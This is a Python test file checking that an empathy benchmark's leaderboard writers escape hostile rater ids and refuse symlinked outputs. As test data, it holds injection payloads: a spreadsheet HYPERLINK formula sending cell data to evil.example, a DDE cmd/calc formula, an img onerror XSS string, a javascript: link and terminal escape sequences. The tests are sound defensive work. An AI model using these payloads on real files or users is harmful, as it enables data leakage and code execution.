"""Hostile ids and hostile folders against the output writers (issue 20): a rater id from a team's
labels cannot become a spreadsheet formula, a Markdown row or raw HTML, or a terminal escape; no
output is written through a symbolic link; no two raters share a record file; a rewrite that
changes no figure changes no file. Each test builds its records from the committed ones with the
rater id replaced, and asserts the exact text that reaches the file or the screen."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from empathy_bench.cli import main
from empathy_bench.core.errors import InputError
from empathy_bench.core.files import write_text_atomic
from empathy_bench.core.project import project_dir
from empathy_bench.leaderboard.publish import write
from empathy_bench.leaderboard.record import RunRecord, read_records, write_records
from empathy_bench.leaderboard.terminal import render
from record_support import set_figures, stored_figure

RUNS = project_dir() / "results" / "runs"
OLD = 1_000_000_000  # an mtime long past: a file that keeps it was not rewritten
HASHED = r"~[0-9a-f]{8}"


def _record(task: str, name: str, mean: dict | None = None, **agreement: object) -> RunRecord:
    """A committed record (results/runs/<task>/<name>.json) with agreement fields replaced."""
    data = json.loads((RUNS / task / f"{name}.json").read_text(encoding="utf-8"))
    data["agreement"].update(agreement)
    set_figures(data, **(mean or {}))  # the means over dimensions: the figures on no criterion
    return RunRecord.model_validate(data)


def _results(tmp_path: Path, *records: RunRecord) -> Path:
    out = tmp_path / "results"
    write_records(list(records), out / "runs")
    return out


def _csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


# --- 3: spreadsheet formulas ------------------------------------------------------------------


@pytest.mark.parametrize(
    "rater",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4", "\tx", "\rx"],
)
def test_formula_cells_are_neutralised_in_every_csv_and_numbers_stay_numbers(tmp_path: Path, rater: str) -> None:
    out = _results(
        tmp_path,
        _record("lend_an_ear", "gpt-4o", rater=rater, mean={"spearman": -0.12}),
        _record("lend_an_ear_compare", "gpt-4o--from-ratings", rater=rater),
        _record("lend_an_ear_coach", "gpt-4o--as-coach", rater=rater),
    )
    write(out)
    for name in ("leaderboard.csv", "preferences.csv", "coaches.csv"):
        (row,) = _csv_rows(out / name)
        # shown as text by a spreadsheet, never evaluated (a CR is written as LF: a quoted cell)
        assert row["rater"] == "'" + rater.replace("\r", "\n"), name
        assert row["rater_type"] == "recorded" and row["task"].startswith("lend_an_ear"), name
    (overall,) = _csv_rows(out / "leaderboard.csv")
    assert overall["spearman"] == "-0.12"  # a negative number is a number, not a formula
    assert ",-0.12," in (out / "leaderboard.csv").read_text(encoding="utf-8")
    # the JSON keeps the exact id (it is data, not a spreadsheet)
    assert json.loads((out / "leaderboard.json").read_text())["overall"][0]["rater"] == rater


# --- 4: Markdown, terminal, links -------------------------------------------------------------

HOSTILE_MD = "a|b <img src=x onerror=alert(1)> [x](javascript:alert(1)) \\\n## injected"
ESCAPED_MD = "a\\|b &lt;img src=x onerror=alert(1)&gt; [x\\](javascript:alert(1)) \\\\\\n## injected"


def test_markdown_cells_escape_pipes_html_links_and_newlines(tmp_path: Path) -> None:
    out = _results(tmp_path, _record("lend_an_ear", "gpt-4o", rater=HOSTILE_MD))
    write(out)
    md = (out / "leaderboard.md").read_text(encoding="utf-8")
    assert f"| {ESCAPED_MD} | recorded | 50 | " in md  # one cell, then the next columns in place
    assert "<img" not in md and "[x](javascript" not in md
    assert not any(line.startswith("## injected") for line in md.splitlines())
    # every row of every table has exactly as many cells as its header
    cells = re.compile(r"(?<!\\)\|")
    for block in md.split("\n\n"):
        rows = [line for line in block.splitlines() if line.startswith("|")]
        if rows:
            assert {len(cells.findall(r)) for r in rows} == {len(cells.findall(rows[0]))}, block


def test_terminal_output_shows_escape_codes_as_text(tmp_path: Path) -> None:
    rater = "evil\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eRED\nfake row"
    rec = _record("lend_an_ear", "gpt-4o", rater=rater, notes=["note \x1b[31mred"])
    text = render([rec], detail=True)
    assert "evil\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m\\u202eRED\\nfake row  recorded" in text
    assert "lend_an_ear / evil\\x1b[2J" in text and "note \\x1b[31mred" in text  # --detail's notes too
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)  # nothing raw but line breaks
    assert not any(line.startswith("fake row") for line in text.splitlines())


def test_a_symlinked_leaderboard_md_is_refused_and_its_target_is_untouched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _results(tmp_path, _record("lend_an_ear", "gpt-4o"))
    outside = tmp_path / "outside.txt"
    outside.write_text("precious\n")
    (out / "leaderboard.md").symlink_to(outside)
    assert main(["leaderboard", "--results-dir", str(out)]) == 2
    err = capsys.readouterr().err
    link = out / "leaderboard.md"
    assert err == (
        f"error: {link}: is a symbolic link, and empathy-bench never writes through one. "
        f"Fix: remove the link (`rm {link}`) and run the command again; it writes a plain file there\n"
    )
    assert outside.read_text() == "precious\n" and link.is_symlink()
    assert not (out / "leaderboard.csv").exists()  # every target is checked before any is written


def test_a_symlinked_record_is_refused_and_its_target_is_untouched(tmp_path: Path) -> None:
    runs = tmp_path / "results" / "runs"
    (runs / "lend_an_ear").mkdir(parents=True)
    outside = tmp_path / "outside.json"
    outside.write_text("{}\n")
    (runs / "lend_an_ear" / "gpt-4o.json").symlink_to(outside)
    with pytest.raises(InputError, match=r"gpt-4o\.json: is a symbolic link, and empathy-bench never writes"):
        write_records([_record("lend_an_ear", "gpt-4o")], runs)
    assert outside.read_text() == "{}\n"


def test_cli_output_is_atomic_and_refuses_a_link(tmp_path: Path) -> None:
    from empathy_bench.cli.labels_commands import write_output

    target = tmp_path / "out" / "table.csv"
    write_output("a,b", target)
    assert target.read_text() == "a,b\n" and os.listdir(target.parent) == ["table.csv"]  # no temp file left
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    with pytest.raises(InputError, match=r"link\.csv: is a symbolic link"):
        write_output("c,d", link)
    assert target.read_text() == "a,b\n"


def test_a_failed_write_leaves_the_old_file_whole_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "leaderboard.md"
    path.write_text("old\n")

    def full_disk(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    with pytest.raises(InputError) as caught:
        write_text_atomic(path, "new\n")
    assert str(caught.value) == (
        f"{path}: cannot be written (No space left on device). Fix: check that its folder exists and that you "
        "can write there (and that the disk is not full)"
    )
    assert path.read_text() == "old\n" and os.listdir(tmp_path) == ["leaderboard.md"]


# --- 7: record file names ---------------------------------------------------------------------


@pytest.mark.parametrize("run_first", [True, False])
def test_a_recorded_rater_named_like_a_builtin_judge_does_not_replace_its_run(tmp_path: Path, run_first: bool) -> None:
    run = _record("lend_an_ear", "builtin-lexicon")
    impostor = _record("lend_an_ear", "gpt-4o", rater="builtin-lexicon")
    runs = tmp_path / "runs"
    for rec in [run, impostor] if run_first else [impostor, run]:
        write_records([rec], runs)
    names = sorted(p.name for p in (runs / "lend_an_ear").iterdir())
    assert names[0] == "builtin-lexicon.json" and re.fullmatch(rf"builtin-lexicon{HASHED}\.json", names[1]), names
    types = {p.name: r.agreement.rater_type for p, r in read_records(runs)}
    assert types == {names[0]: "run", names[1]: "recorded"}  # the run keeps its own file either way


def test_a_run_and_a_recorded_rater_of_one_ordinary_name_get_two_files(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    write_records([_record("lend_an_ear", "gpt-4o")], runs)
    write_records([_record("lend_an_ear", "builtin-lexicon", rater="gpt-4o")], runs)  # a judge file gpt-4o.yaml
    found = {p.name: (r.agreement.rater, r.agreement.rater_type) for p, r in read_records(runs)}
    assert found.pop("gpt-4o.json") == ("gpt-4o", "recorded")  # first come keeps the plain name
    ((name, who),) = found.items()
    assert re.fullmatch(rf"gpt-4o{HASHED}\.json", name) and who == ("gpt-4o", "run")


def test_a_record_from_before_the_rater_type_was_named_is_replaced_in_its_own_file(tmp_path: Path) -> None:
    """Up to record schema 7 the rater type was `kind`: a re-run's record still knows that file for
    its own rater's and replaces it, rather than taking a hashed name beside it."""
    rec = _record("lend_an_ear", "gpt-4o")
    old = json.loads(rec.model_dump_json())
    old["agreement"]["kind"] = old["agreement"].pop("rater_type")
    old["schema_version"] = 7
    folder = tmp_path / "runs" / "lend_an_ear"
    folder.mkdir(parents=True)
    (folder / "gpt-4o.json").write_text(json.dumps(old), encoding="utf-8")
    assert write_records([rec], tmp_path / "runs") == [folder / "gpt-4o.json"]
    assert [p.name for p in folder.iterdir()] == ["gpt-4o.json"]
    stored = json.loads((folder / "gpt-4o.json").read_text(encoding="utf-8"))
    assert (stored["schema_version"], stored["agreement"]["rater_type"]) == (8, "recorded")
    assert "kind" not in stored["agreement"] and stored["candidate"]["rater_type"] == "recorded"


def test_ids_with_one_slug_get_distinct_files(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    paths = write_records([_record("lend_an_ear", "gpt-4o", rater=r) for r in ("a b", "a/b", "a-b")], runs)
    assert paths[2].name == "a-b.json"
    assert all(re.fullmatch(rf"a-b{HASHED}\.json", p.name) for p in paths[:2]) and paths[0] != paths[1]
    assert {r.agreement.rater: p for p, r in read_records(runs)} == dict(zip(("a b", "a/b", "a-b"), paths, strict=True))


def test_a_300_character_id_is_written_and_read_back(tmp_path: Path) -> None:
    rater = "judge/" + "x" * 294
    (path,) = write_records([_record("lend_an_ear", "gpt-4o", rater=rater)], tmp_path / "runs")
    assert re.fullmatch(rf"judge-x{{74}}{HASHED}\.json", path.name)  # 80 readable characters and a hash
    ((found, rec),) = read_records(tmp_path / "runs")
    assert found == path and rec.agreement.rater == rater


def test_committed_records_keep_their_names(tmp_path: Path) -> None:
    records = read_records(RUNS)
    paths = write_records([rec for _, rec in records], tmp_path / "runs")
    assert [p.relative_to(tmp_path / "runs") for p in paths] == [p.relative_to(RUNS) for p, _ in records]
    # the same records (fields added since they were written take their defaults)
    assert all(json.loads(p.read_text()) == _with_defaults(q) for p, (q, _) in zip(paths, records, strict=True))


def _with_defaults(path: Path) -> dict:
    stored = json.loads(path.read_text())
    if isinstance((stored.get("run") or {}).get("usage"), dict):
        stored["run"]["usage"].setdefault("live_wall_seconds", None)
    if isinstance((stored.get("run") or {}).get("grader_usage"), dict):
        stored["run"]["grader_usage"].setdefault("live_wall_seconds", None)
    return stored


def test_a_broken_record_is_named_without_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = _results(tmp_path, _record("lend_an_ear", "gpt-4o"))
    broken = out / "runs" / "lend_an_ear" / "gpt-4o.json"
    broken.write_text(broken.read_text()[:200])  # cut short, as a crash of an older writer left it
    assert main(["leaderboard", "--results-dir", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {broken}: is not a valid run record (") and "Traceback" not in err
    assert err.endswith("Fix: delete the file, or re-run the judge to write it again (`empathy-bench run`)\n")


# --- 11b: no noise in a user's diff -----------------------------------------------------------


def test_a_record_whose_figures_are_unchanged_is_not_rewritten(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    rec = _record("lend_an_ear", "gpt-4o")
    (path,) = write_records([rec], runs)
    before = path.read_bytes()
    os.utime(path, (OLD, OLD))
    again = rec.model_copy(update={"git_revision": "f" * 40, "command": "empathy-bench run --judge other"})
    assert write_records([again], runs) == [path]
    assert path.read_bytes() == before and path.stat().st_mtime == OLD
    changed = _record("lend_an_ear", "gpt-4o", mean={"qwk": 0.123}).model_copy(update={"git_revision": "e" * 40})
    write_records([changed], runs)
    stored = json.loads(path.read_text())
    assert stored_figure(stored, "qwk") == 0.123 and stored["git_revision"] == "e" * 40


def test_regenerating_the_leaderboard_touches_no_file_and_the_readme_only_when_its_excerpt_changed(
    tmp_path: Path,
) -> None:
    readme = tmp_path / "README.md"
    readme.write_text("intro\n<!-- leaderboard:start -->\nstale\n<!-- leaderboard:end -->\ntail\n")
    out = _results(tmp_path, _record("lend_an_ear", "gpt-4o"))
    first = write(out)
    assert first[-1] == readme
    text = readme.read_text()
    assert text.startswith("intro\n<!-- leaderboard:start -->\n| rater | type | items |")
    assert "\n| gpt-4o | recorded | 50 | " in text and text.endswith("\n<!-- leaderboard:end -->\ntail\n")
    for path in first:
        os.utime(path, (OLD, OLD))
    before = {p: p.read_bytes() for p in first}
    assert readme not in write(out)  # the excerpt is the same: README.md is not written
    assert {p: p.read_bytes() for p in first} == before
    assert all(p.stat().st_mtime == OLD for p in first)


def test_a_readme_without_its_end_marker_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    readme = tmp_path / "README.md"
    readme.write_text("intro\n<!-- leaderboard:start -->\nno end\n")
    out = _results(tmp_path, _record("lend_an_ear", "gpt-4o"))
    assert main(["leaderboard", "--results-dir", str(out)]) == 2
    assert capsys.readouterr().err == (
        f"error: {readme}: has <!-- leaderboard:start --> but no <!-- leaderboard:end --> after it. "
        "Fix: add a line <!-- leaderboard:end --> where the leaderboard excerpt ends\n"
    )
    assert readme.read_text() == "intro\n<!-- leaderboard:start -->\nno end\n"
